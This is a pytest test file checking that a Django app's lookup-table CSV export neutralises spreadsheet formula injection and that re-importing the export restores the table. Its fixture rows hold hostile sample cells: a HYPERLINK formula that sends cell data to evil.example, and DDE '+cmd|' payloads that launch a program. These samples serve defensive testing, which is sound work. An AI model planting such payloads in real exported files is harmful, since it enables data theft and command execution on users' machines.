"""Issue 15, low finding: CSV formula injection in the lookup export. A row someone typed as
a formula (`=HYPERLINK(...)`, `@SUM(...)`, a DDE `+cmd|...`) leaves the export as text (after
an apostrophe), so a spreadsheet opening it runs nothing; importing that export gives the
table back exactly; a plain number such as `-5` is written as it is."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from mappings.models import LookupTable

pytestmark = pytest.mark.django_db

ROWS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "01",
    "+cmd|' /C calc'!A0": "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "\tTAB-LED",
    "-5": "-12.5",
    "'quoted already": "'=not a formula either",
    "Net 30": "\rCR-LED",
    "plain": "=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def table() -> LookupTable:
    table = LookupTable.objects.create(name="Codes from the CRM")
    for key, value in ROWS.items():
        table.entries.create(key=key, value=value)
    return table


@pytest.fixture
def admin(users) -> Client:
    client = Client()
    client.force_login(users["admin"])
    return client


def exported_cells(admin: Client, table: LookupTable) -> list[list[str]]:
    reply = admin.get(reverse("lookup-export", args=[table.pk]))
    assert reply.status_code == 200
    return list(csv.reader(io.StringIO(reply.content.decode())))


def test_no_exported_cell_starts_as_a_formula(admin, table):
    cells = exported_cells(admin, table)
    assert cells[0] == ["key", "value"]
    written = {key: value for key, value in cells[1:]}
    assert written['\'=HYPERLINK("http://evil.example/?"&A1,"Click")'] == "01"
    assert written["'+cmd|' /C calc'!A0"] == "'-2+3+cmd|' /C calc'!A0"
    assert written["'@SUM(1+1)*cmd|' /C calc'!A0"] == "'\tTAB-LED"
    assert written["plain"] == "'=1+1" and written["Net 30"] == "'\rCR-LED"
    assert written["-5"] == "-12.5"  # numbers run nothing and stay numbers
    assert written["''quoted already"] == "''=not a formula either"
    risky = [cell for row in cells[1:] for cell in row
             if cell.startswith(FORMULA_START) and cell not in ("-5", "-12.5")]  # fmt: skip
    assert risky == []


def test_importing_the_export_gives_the_table_back_exactly(admin, table):
    text = admin.get(reverse("lookup-export", args=[table.pk])).content
    table.entries.all().delete()
    upload = SimpleUploadedFile("codes.csv", text)
    preview = admin.post(reverse("lookup-import", args=[table.pk]), {"file": upload})
    assert preview.status_code == 200, preview.content.decode()
    admin.post(reverse("lookup-import", args=[table.pk]), {"checked": preview.context["checked"]})
    assert dict(table.entries.values_list("key", "value")) == ROWS
